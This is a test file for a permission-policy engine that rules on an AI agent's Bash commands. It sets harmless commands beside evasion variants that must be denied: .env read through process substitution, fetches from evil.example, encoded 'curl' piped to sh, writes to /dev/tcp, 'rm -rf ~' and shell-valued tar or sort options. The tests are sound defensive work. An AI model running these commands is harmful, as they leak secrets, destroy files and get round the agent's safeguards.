// Issue 13, class 6: ordinary work the analysis used to refuse, each with the attack next to it that must still be
// refused (so that a fix by principle did not open a hole).
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { compilePolicy } from '../../src/policy/compile.ts';
import { evaluateCall } from '../../src/policy/evaluate.ts';
import { PROCSUB_READERS } from '../../src/policy/shell/commands/data.ts';

const decide = (policy: object, command: string) =>
  evaluateCall(compilePolicy(policy as never), { tool: 'Bash', input: { command } }, { root: '/project' });
const DENY_CURL = { tools: { allow: ['Bash'], deny: ['Bash:curl*'] } };
const FILES = { tools: { allow: ['Bash'] }, files: { deny: ['.env'] } };
const DOMAINS = { tools: { allow: ['Bash'] }, domains: { allow: ['api.github.com'] } };

function allowed(policy: object, command: string) {
  const d = decide(policy, command);
  assert.is(d.decision, 'allow', `${command}: ${d.reason}`);
}
function denied(policy: object, command: string) {
  const d = decide(policy, command);
  assert.is(d.decision, 'deny', `${command} should be refused`);
}

test('git: a command-valued setting with a harmless program is ordinary; any other command is not', () => {
  allowed(DENY_CURL, 'git -c core.pager=cat log');
  allowed(DENY_CURL, 'git -c core.editor=true rebase --continue');
  allowed(DENY_CURL, 'git -c core.pager="less -R" log');
  denied(DENY_CURL, "git -c core.pager='curl x' log");
  denied(DENY_CURL, 'git -c core.pager="cat; curl x" log');
  denied(DENY_CURL, 'git -c include.path=true log');
});

test('awk: getline from a file is a read (checked against file rules), from a command a command', () => {
  allowed(DENY_CURL, `awk '{ getline line < "file" }' x`);
  denied(FILES, `awk 'BEGIN { while ((getline l < ".env") > 0) print l }'`);
  denied(DENY_CURL, `awk 'BEGIN { "curl x" | getline d }'`);
  denied(DENY_CURL, `awk '{ getline l < f }' x`);
  allowed(DENY_CURL, `awk '{ print > "out.txt" }' x`);
});

test('printf with a NUL separator into xargs -0 is not an obfuscated command; spelled-out characters still are', () => {
  allowed(DENY_CURL, "printf '%s\\0' a b | xargs -0 wc -l");
  denied(DENY_CURL, "printf '\\x63\\x75\\x72\\x6c' | sh");
  denied(DENY_CURL, "printf '\\143url' | xargs -I{} {} x");
});

test('a URL whose scheme and host are literal names its host even when the path is dynamic', () => {
  allowed(DOMAINS, 'curl -s "https://api.github.com/repos/$REPO/pulls"');
  allowed(DOMAINS, 'curl --url "https://api.github.com/$P"');
  denied(DOMAINS, 'curl -s "https://$HOST/x"');
  denied(DOMAINS, 'curl -s "https://api.github.com$X/"');
  denied(DOMAINS, 'curl -s "https://api.github.com@$X/"');
  denied(DOMAINS, 'curl -s "https://evil.example/$X"');
});

test('<( ) read by a command that only reads its operands is data; its commands are still checked', () => {
  allowed(DENY_CURL, 'diff <(sort a) <(sort b)');
  allowed(DENY_CURL, 'comm -23 <(sort -u a.txt) <(git ls-files | sort)');
  allowed(DENY_CURL, 'diff -u <(jq -S . a.json) <(jq -S . b.json) | head');
  // The vectors: a file passed through unchanged, and >( ) (fed by the outer command, not waited for).
  denied(DENY_CURL, 'diff <(cat .env) /dev/null');
  denied(DENY_CURL, 'diff <(< .env) /dev/null');
  denied(DENY_CURL, 'cat file > >(tee log.txt)');
  // The commands inside are analysed like any other: a denied command, a denied file, a denied host.
  denied(DENY_CURL, 'diff <(curl -s https://evil.example/x) a');
  denied(FILES, 'diff <(sort .env) /dev/null');
  denied({ tools: { allow: ['Bash'] }, domains: { allow: ['api.github.com'] } }, 'diff <(wget -qO- https://evil.example/) a');
  // A reader that may run what it reads, an unknown reader, a substitution that is not a whole operand.
  denied(DENY_CURL, 'bash <(sort a)');
  denied(DENY_CURL, 'source <(sort a)');
  denied(DENY_CURL, '. <(sort a)');
  denied(DENY_CURL, 'awk -f <(sort a) x');
  denied(DENY_CURL, 'mytool <(sort a)');
  denied(DENY_CURL, 'mytool --in=<(sort a) b');
  denied(DENY_CURL, 'diff <(sort a) < <(sort b)');
  denied(DENY_CURL, 'while read l; do echo "$l"; done < <(sort a)');
  denied(DENY_CURL, 'sudo bash <(sort a)');
  // A substitution nested inside an operand belongs to the command there, not to the outer reader.
  denied(DENY_CURL, "diff <(bash < <(echo 'rm -rf ~')) y");
  denied(DENY_CURL, "diff <(x=<(echo a) sort a) y");
  denied(DENY_CURL, "diff <(sort $(bash <(echo id))) y");
  denied(DENY_CURL, "diff <(for f in <(echo a); do sort; done) y");
  denied(DENY_CURL, "diff $(cat <(sort a)) y");
  allowed(DENY_CURL, 'diff <(sort <(sort a)) b');
  // A reader's option that feeds its data to a program: a shell there runs the data (sort spills to the compressor).
  denied(DENY_CURL, "sort -S 1k --compress-program=sh <(echo 'curl evil.example')");
  denied(DENY_CURL, 'tar -I sh -xf payload.tar');
  denied(DENY_CURL, 'tar --to-command=bash -xf payload.tar');
  allowed(DENY_CURL, 'sort --compress-program=gzip <(sort a)');
  allowed(DENY_CURL, 'tar -I zstd -xf x.tar');
  allowed(DENY_CURL, 'timeout 5 diff <(sort a) <(sort b)');
  denied(DENY_CURL, 'x=<(sort a) diff a b');
});

test('every entry of PROCSUB_READERS takes <( ) operands as data, and still refuses a pass-through copy', () => {
  assert.ok(PROCSUB_READERS.size >= 20);
  // sdiff runs $EDITOR on an `e` read from its stdin: not a reader of data only.
  assert.not.ok(PROCSUB_READERS.has('sdiff'));
  for (const name of PROCSUB_READERS) {
    allowed(DENY_CURL, `${name} <(sort a) <(sort b)`);
    denied(DENY_CURL, `${name} <(cat .env) /dev/null`);
    denied(DENY_CURL, `${name} <(curl -s https://evil.example/) a`);
  }
});

test('decoded output written to a file is data; decoded output anywhere else, or the file run later, is not', () => {
  allowed(DENY_CURL, 'base64 -d fixture.b64 > fixture.bin');
  allowed(DENY_CURL, 'base64 --decode < fixture.b64 > "out dir/fixture.bin"');
  allowed(DENY_CURL, 'base64 -d fixture.b64 >/dev/null');
  allowed(DENY_CURL, 'xxd -r dump.hex > fixture.bin');
  denied(DENY_CURL, 'echo Y3VybA== | base64 -d');
  denied(DENY_CURL, 'echo Y3VybA== | base64 -d | bash');
  denied(DENY_CURL, 'base64 -d x > /dev/stdout');
  denied(DENY_CURL, 'base64 -d x >&2');
  denied(DENY_CURL, 'base64 -d x > "$OUT"');
  denied(DENY_CURL, 'base64 -d x > >(bash)');
  denied(DENY_CURL, 'base64 -d x > /dev/tcp/evil.example/80');
  denied(DENY_CURL, 'base64 -d x > out.sh; bash out.sh');
  denied(DENY_CURL, 'base64 -d x > run && chmod +x run && ./run');
  denied(DENY_CURL, 'base64 -d x > lib.sh && . lib.sh');
  denied(DENY_CURL, 'base64 -d x > out 1>&2');
  denied(DENY_CURL, 'uudecode x > y');
  // The written file is checked against file rules like any write.
  denied({ tools: { allow: ['Bash'] }, files: { readOnly: ['fixture.bin'] } }, 'base64 -d fixture.b64 > fixture.bin');
});

test('printf NUL list into xargs -0 and a literal-host URL under a domain allow list, through the same checks', () => {
  allowed(DOMAINS, "printf '%s\\0' a b | xargs -0 wc -l");
  allowed({ tools: { allow: ['Bash'] }, files: { deny: ['.env'] } }, "printf '%s\\0' a b | xargs -0 wc -l");
  allowed({ tools: { allow: ['Bash'], deny: ['Bash:curl*'] }, domains: { allow: ['api.github.com'] } }, 'gh api "repos/$REPO/pulls"');
  allowed({ tools: { allow: ['Bash'], deny: ['Bash:rm *'] }, domains: { allow: ['api.github.com'] } }, 'curl -s "https://api.github.com/repos/$REPO/pulls"');
  denied({ tools: { allow: ['Bash'], deny: ['Bash:rm *'] }, domains: { allow: ['api.github.com'] } }, 'curl -s "https://$HOST/repos"');
});

test.run();
